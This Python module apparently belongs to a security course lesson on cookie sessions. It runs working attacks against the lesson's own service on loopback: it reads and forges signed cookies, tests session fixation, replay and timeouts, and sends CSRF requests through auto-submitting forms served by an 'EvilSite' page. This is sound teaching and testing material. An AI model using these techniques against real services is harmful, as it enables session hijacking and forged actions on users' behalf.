"""Lesson 06: attacks on cookie sessions.

In process (``TestClient`` over ``https://testserver``, so that Secure cookies travel), each a
real request to the service after lesson 06 with one of its session designs plugged in:

- **read** the session data out of a client-held cookie with base64 alone: itsdangerous signs,
  it does not encrypt (ASVS 5.0 3.3.4; the errata of this lesson);
- **forge** a cookie that says ``role: admin`` without the key. This fails even against the
  naive client-held cookie, because signing works; it succeeds only against a server that
  reads the payload without checking the signature (``loads_unsafe``);
- **fixation**: a session id planted in the victim's browser before she logs in is logged in
  as her afterwards (ASVS 7.2.4);
- **replay after logout**, and the cookie of a **deleted account** (ASVS 7.4.1, 7.4.2);
- a session **idle** for 45 minutes, or **logged in 9 hours ago** (ASVS 7.3.1, 7.3.2);
- a **write with the cookie and no CSRF token**, exactly what a form on another page makes
  the browser send (ASVS 3.5.1).

Over the network (real uvicorn servers with lesson 04's TLS on loopback, and
``lessons.browser.Browser``): a **cross-site form post** from a page served by another origin,
and a session id **planted** by that page before login. The scene's accounts have random
passwords; mallory is the attacker, with an ordinary account of her own.
"""

from __future__ import annotations

import base64
import html
import itertools
import json
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import httpx2
from fastapi import FastAPI
from fastapi.testclient import TestClient
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from lessons import sessions
from lessons.attacks import Account, AttackResult, new_password, seed
from lessons.browser import Browser
from lessons.server import BackgroundServer
from lessons.tls import certificates as tls

ATTACKER, VICTIM, LEAVER = "mallory", "alice", "bob"
COOKIE, CSRF_HEADER = sessions.COOKIE, sessions.CSRF_HEADER

# The designs the attacks run against, as seam overrides for ``create_app(upto=6, ...)``.
NAIVE_LAYER = sessions.NAIVE_LAYER  # server-side, without rotation, timeouts, logout or CSRF
CLIENT_HELD_LAYER = sessions.CLIENT_HELD_LAYER  # the errata's: username and role in the cookie
UNCHECKED_LAYER = sessions.UNCHECKED_LAYER  # the same, read without checking the signature


# -- what is inside a cookie, read without the key ---------------------------------------------


def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def decode_without_key(cookie: str) -> Any:
    """The first dot-separated part of a cookie, decoded with base64 alone: the JSON it holds
    (itsdangerous' serializers put it there, zlib-compressed when a leading dot says so), or
    the raw bytes when it is not JSON."""
    first = cookie[1:].split(".")[0] if cookie.startswith(".") else cookie.split(".")[0]
    try:
        raw = unb64url(first)
        if cookie.startswith("."):
            raw = zlib.decompress(raw)
    except (ValueError, zlib.error):
        return b""
    try:
        return json.loads(raw)
    except (UnicodeDecodeError, ValueError):
        return raw


def describe_cookie(cookie: str) -> str:
    """A cookie's shape, without its secret parts: the length of each dot-separated part."""
    return ".".join(f"<{len(part)} chars>" for part in cookie.split("."))


def set_cookie_attributes(response: httpx2.Response) -> dict[str, dict[str, str]]:
    """Every cookie a response sets, by name, with its attributes (values left out)."""
    from lessons.browser import parse_set_cookie

    found = {}
    for header in response.headers.get_list("set-cookie"):
        name, _value, attributes = parse_set_cookie(header)
        found[name] = attributes
    return found


def cookie_from(response: httpx2.Response) -> str | None:
    """The value the response sets for the session cookie, if any."""
    from lessons.browser import parse_set_cookie

    for header in response.headers.get_list("set-cookie"):
        name, value, attributes = parse_set_cookie(header)
        if name == COOKIE and attributes.get("max-age") != "0" and value:
            return value
    return None


# -- the scene: a service with three accounts, called in process --------------------------------


class SceneError(RuntimeError):
    """The scene could not be set up (say, logging in failed): no verdict on the attack."""


@dataclass
class Scene:
    app: FastAPI
    accounts: dict[str, Account]
    client: TestClient

    def request(self, method: str, path: str, *, cookie: str | None = None,
                csrf: str | None = None, headers: dict[str, str] | None = None,
                **options: Any) -> httpx2.Response:
        """One request, carrying exactly the cookie given (the client keeps no jar)."""
        sent = dict(headers or {})
        if cookie is not None:
            sent["Cookie"] = f"{COOKIE}={cookie}"
        if csrf is not None:
            sent[CSRF_HEADER] = csrf
        self.client.cookies.clear()
        try:
            return self.client.request(method, path, headers=sent, **options)
        finally:
            self.client.cookies.clear()

    def login_response(self, username: str, cookie: str | None = None) -> httpx2.Response:
        account = self.accounts[username]
        return self.request("POST", "/session/login", cookie=cookie,
                            data={"username": account.username, "password": account.password})

    def login(self, username: str, cookie: str | None = None) -> tuple[str, str]:
        """Log in through ``POST /session/login``: the cookie value and the CSRF token."""
        response = self.login_response(username, cookie)
        value = cookie_from(response)
        if response.status_code != 204 or value is None:
            raise SceneError(f"{username} could not log in: POST /session/login answered "
                             f"{response.status_code} {response.text[:120]}")
        return value, response.headers.get(CSRF_HEADER, "")

    def me(self, cookie: str) -> httpx2.Response:
        return self.request("GET", "/session/me", cookie=cookie)

    def age_sessions(self, *, idle: int = 0, age: int = 0) -> None:
        """Setting the scene: move every stored session ``idle`` seconds further from its last
        request and ``age`` seconds further from its login, as time passing would."""
        with self.app.state.service.store.transaction() as db:
            db.execute("UPDATE sessions SET last_seen = last_seen - ?, created_at = created_at - ?",
                       (idle, age))


def https_client(app: FastAPI) -> TestClient:
    """An in-process client on ``https://testserver``: Secure cookies are sent over it."""
    return TestClient(app, base_url="https://testserver")


def stage(app: FastAPI) -> Scene:
    """Seed alice (the victim), mallory (the attacker) and bob (whose account will be deleted)."""
    people = seed(app, *(Account(name, new_password()) for name in (VICTIM, ATTACKER, LEAVER)),
                  notes_each=1)
    return Scene(app=app, accounts=people, client=https_client(app))


def _judge_me(name: str, response: httpx2.Response, as_user: str,
              before: str = "") -> AttackResult:
    body = response.json() if response.headers.get("content-type") == "application/json" else {}
    succeeded = response.status_code == 200 and body.get("username") == as_user
    outcome = (f"HTTP 200, signed in as {body.get('username')}" if response.status_code == 200
               else f"HTTP {response.status_code}: {body.get('detail', response.reason_phrase)}")
    return AttackResult(name=name, succeeded=succeeded, evidence=before + outcome)


# -- the attacks --------------------------------------------------------------------------------


def read_cookie(scene: Scene) -> AttackResult:
    """Log in as yourself and read your cookie with base64 alone: no key needed."""
    cookie, _ = scene.login(ATTACKER)
    data = decode_without_key(cookie)
    readable = isinstance(data, dict)
    if readable:
        evidence = f"the cookie's first part decodes to {json.dumps(data, sort_keys=True)}"
    else:
        evidence = (f"the cookie's first part decodes to {len(data)} random bytes: an id that "
                    "means nothing without the server's record")
    return AttackResult("read the session data out of the cookie, without the key",
                        succeeded=readable and "role" in data, evidence=evidence)


def forge_cookie(scene: Scene) -> AttackResult:
    """Take your own cookie, make its data say ``role: admin``, keep the rest, and call the
    admin route with it."""
    cookie, _ = scene.login(ATTACKER)
    data = decode_without_key(cookie)
    claims = data if isinstance(data, dict) else {"username": ATTACKER}
    forged_data = b64url(json.dumps({**claims, "role": "admin"}, separators=(",", ":")).encode())
    rest = cookie.split(".", 1)[1] if "." in cookie else ""
    forged = f"{forged_data}.{rest}"
    response = scene.request("GET", "/admin/users", cookie=forged)
    listed = response.status_code == 200 and isinstance(response.json(), list)
    detail = "" if listed else f": {response.json().get('detail', '')}"
    return AttackResult("forge a cookie saying role admin, without the key",
                        succeeded=listed,
                        evidence=f"GET /admin/users with the forged cookie: HTTP "
                                 f"{response.status_code}{detail}")


def fixation(scene: Scene) -> AttackResult:
    """Plant your own session's cookie in alice's browser; after she logs in, use your copy."""
    planted, _ = scene.login(ATTACKER)
    response = scene.login_response(VICTIM, cookie=planted)
    issued = cookie_from(response)
    kept = "kept the planted session id" if issued == planted else "issued a new session id"
    return _judge_me("session fixation: a planted cookie, used after alice logs in",
                     scene.me(planted), VICTIM,
                     before=f"alice's login {kept}; the planted copy then gets ")


def replay_after_logout(scene: Scene) -> AttackResult:
    """Keep a copy of alice's cookie (a log, a shared computer) and use it after she logs out."""
    cookie, csrf = scene.login(VICTIM)
    logout = scene.request("POST", "/session/logout", cookie=cookie, csrf=csrf)
    return _judge_me("replay alice's cookie after she logged out", scene.me(cookie), VICTIM,
                     before=f"logout answered {logout.status_code}; the copy then gets ")


def deleted_account(scene: Scene) -> AttackResult:
    """bob's account is deleted by an admin; his cookie is used afterwards."""
    cookie, _ = scene.login(LEAVER)
    scene.app.state.service.store.delete_user(LEAVER)
    return _judge_me("use the cookie of a deleted account", scene.me(cookie), LEAVER,
                     before="bob's account deleted; his cookie then gets ")


def idle_session(scene: Scene) -> AttackResult:
    """A cookie left behind 45 minutes ago (idle timeout: 30 minutes)."""
    cookie, _ = scene.login(VICTIM)
    scene.age_sessions(idle=45 * 60, age=45 * 60)
    return _judge_me("a session idle for 45 minutes", scene.me(cookie), VICTIM,
                     before="after 45 minutes without a request: ")


def old_session(scene: Scene) -> AttackResult:
    """A session in use all day: logged in 9 hours ago, last request a minute ago."""
    cookie, _ = scene.login(VICTIM)
    scene.age_sessions(idle=60, age=9 * 3600)
    return _judge_me("a session logged in 9 hours ago, still in use", scene.me(cookie), VICTIM,
                     before="9 hours after login: ")


def missing_token(scene: Scene) -> AttackResult:
    """What a form on another page of the same site makes alice's browser send: her cookie,
    that page's Origin, and no CSRF token."""
    cookie, _ = scene.login(VICTIM)
    forged = scene.request("POST", "/session/logout", cookie=cookie,
                           headers={"Origin": "https://sibling.example.org",
                                    "Sec-Fetch-Site": "same-site"})
    accepted = forged.status_code == 204
    return AttackResult("a write with alice's cookie and no CSRF token (a forged request)",
                        succeeded=accepted,
                        evidence=f"POST /session/logout without {CSRF_HEADER}: HTTP "
                                 f"{forged.status_code}"
                                 + (": the service did what another page asked" if accepted
                                    else ""))


Attack = Callable[[Scene], AttackResult]
IN_PROCESS: tuple[Attack, ...] = (read_cookie, forge_cookie, fixation, replay_after_logout,
                                  deleted_account, idle_session, old_session, missing_token)


_factories = itertools.count(1)


def app_factory(lab: Any, upto: int = 6, **seams: Any) -> Callable[[], FastAPI]:
    """Fresh apps, each in its own data folder of a notebook's ``Lab``, for ``run_all``."""
    prefix, apps = f"attack{next(_factories)}", itertools.count(1)
    return lambda: lab.app(upto, folder=f"{prefix}-{next(apps)}", **seams)


def run_all(make_app: Callable[[], FastAPI],
            attacks: tuple[Attack, ...] = IN_PROCESS) -> list[AttackResult]:
    """Every in-process attack, each on a fresh app from ``make_app``."""
    return [attack(stage(make_app())) for attack in attacks]


def table(results: list[AttackResult]) -> str:
    width = max(len(r.name) for r in results)
    return "\n".join(f"{'SUCCEEDED' if r.succeeded else 'failed   '}  {r.name.ljust(width)}  "
                     f"{r.evidence}" for r in results)


# -- over the network: another page, a browser, two real servers --------------------------------


@dataclass
class EvilSite:
    """mallory's web pages, served from another origin. ``target`` is the service's origin.
    ``planted`` is a session cookie value to plant in visitors' browsers (fixation)."""

    target: str
    planted: str = ""
    # (path, names of the cookies the visitor's browser sent with it): what the site learns.
    received: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)

    def app(self) -> Starlette:
        def page(body: str, *, auto_submit: bool = True) -> HTMLResponse:
            onload = ' onload="document.forms[0].submit()"' if auto_submit else ""
            return HTMLResponse(f"<!doctype html><html><body{onload}>{body}</body></html>")

        async def record(request: Request) -> None:
            self.received.append((request.url.path, tuple(request.cookies)))

        async def logout(request: Request) -> Response:
            await record(request)
            return page(f'<h1>Win a prize!</h1><form method="post" '
                        f'action="{html.escape(self.target)}/session/logout"></form>')

        async def note(request: Request) -> Response:
            await record(request)
            # The classic trick to make a form's text/plain body look like JSON.
            name = html.escape('{"title": "Hello from mallory", "body": "', quote=True)
            return page(f'<form method="post" enctype="text/plain" '
                        f'action="{html.escape(self.target)}/notes">'
                        f'<input name="{name}" value="&quot;}}"></form>')

        async def plant(request: Request) -> Response:
            await record(request)
            response = page("<p>Nothing to see here.</p>", auto_submit=False)
            if self.planted:
                # Legal for this host: HTTPS, Path=/, no Domain. Ports do not separate cookies,
                # so the service on another port of the same host will receive it.
                response.set_cookie(COOKIE, self.planted, path="/", secure=True,
                                    httponly=True, samesite="lax")
            return response

        return Starlette(routes=[Route("/logout", logout), Route("/note", note),
                                 Route("/plant", plant)])


@dataclass
class Network:
    """The service and mallory's site, each on its own HTTPS port of 127.0.0.1."""

    service_url: str
    evil_port: int
    evil: EvilSite
    ca_file: Any

    def evil_url(self, host: str = "127.0.0.1") -> str:
        """mallory's site as a browser reaches it: on the same host as the service (another
        port, the *same site*), or as ``localhost`` (another site)."""
        return f"https://{host}:{self.evil_port}"

    def browser(self) -> Browser:
        return Browser(ca_file=self.ca_file)


@contextmanager
def network(app: FastAPI, files: tls.TlsFiles) -> Iterator[Network]:
    """Serve ``app`` and mallory's site over HTTPS on two free loopback ports; both stop when
    the block ends."""
    options = {"certfile": files.certfile, "keyfile": files.keyfile}
    with BackgroundServer(app, **options) as service:
        evil = EvilSite(target=service.url)
        with BackgroundServer(evil.app(), **options) as site:
            yield Network(service.url, site.port, evil, files.ca_file)


def open_network(serve: Callable[..., BackgroundServer], app: FastAPI,
                 files: tls.TlsFiles) -> Network:
    """The same from a notebook: ``serve`` is ``lab.serve``, which stops both servers at
    ``lab.close()``."""
    options = {"certfile": files.certfile, "keyfile": files.keyfile}
    service = serve(app, **options)
    evil = EvilSite(target=service.url)
    site = serve(evil.app(), **options)
    return Network(service.url, site.port, evil, files.ca_file)


def browser_login(browser: Browser, service_url: str, account: Account) -> httpx2.Response:
    """Log in the way the service's own web page would: a same-origin request from its page."""
    return browser.fetch("POST", f"{service_url}/session/login", page=f"{service_url}/",
                         data={"username": account.username, "password": account.password})


def cross_site_form_post(net: Network, victim: Account, evil_host: str = "127.0.0.1",
                         ) -> AttackResult:
    """alice is logged in, and visits mallory's page, which posts a form to the service's
    ``POST /session/logout`` as soon as it loads. Did the forged request go through?"""
    with net.browser() as browser:
        login = browser_login(browser, net.service_url, victim)
        if login.status_code != 204:
            raise SceneError(f"alice could not log in: HTTP {login.status_code}")
        page = browser.visit(f"{net.evil_url(evil_host)}/logout")
        forged = browser.submit(page)
        sent = browser.history[-1]
        still = browser.fetch("GET", f"{net.service_url}/session/me",
                              page=f"{net.service_url}/").status_code == 200
    relation = "same site, another port" if evil_host == "127.0.0.1" else "another site"
    carried = ", ".join(sent.cookies) or "no cookie"
    return AttackResult(
        name=f"a form on mallory's page ({relation}) posts to POST /session/logout",
        succeeded=forged.status_code == 204,
        evidence=(f"the browser sent {carried} (Sec-Fetch-Site: {sent.fetch_site}); "
                  f"HTTP {forged.status_code}; alice is "
                  f"{'still logged in' if still else 'logged out'}"),
    )


def planted_fixation(net: Network, attacker: Account, victim: Account) -> AttackResult:
    """mallory logs in herself, and her page on another port of the same host plants her
    session cookie in alice's browser. alice logs in. Is mallory's copy now alice?"""
    with net.browser() as mallory, net.browser() as alice:
        if browser_login(mallory, net.service_url, attacker).status_code != 204:
            raise SceneError("mallory could not log in")
        own = next(c.value for c in mallory.jar if c.name == COOKIE)
        net.evil.planted = own
        alice.visit(f"{net.evil_url()}/plant")
        planted = COOKIE in alice.cookie_names(net.service_url)
        browser_login(alice, net.service_url, victim)
        fixated = any(c.name == COOKIE and c.value == own for c in alice.jar)
        me = mallory.fetch("GET", f"{net.service_url}/session/me", page=f"{net.service_url}/")
    result = _judge_me("a session id planted by a page on another port, then alice logs in",
                       me, victim.username,
                       before=(f"planted: {'yes' if planted else 'no'}; alice's login "
                               f"{'kept' if fixated else 'replaced'} it; mallory's copy gets "))
    return result


def served_attacks(app: FastAPI, files: tls.TlsFiles, victim: Account,
                   attacker: Account) -> list[AttackResult]:
    """The network attacks against ``app``: the form post from the same site and from another
    site, and the planted session."""
    with network(app, files) as net:
        return [cross_site_form_post(net, victim, "127.0.0.1"),
                cross_site_form_post(net, victim, "localhost"),
                planted_fixation(net, attacker, victim)]

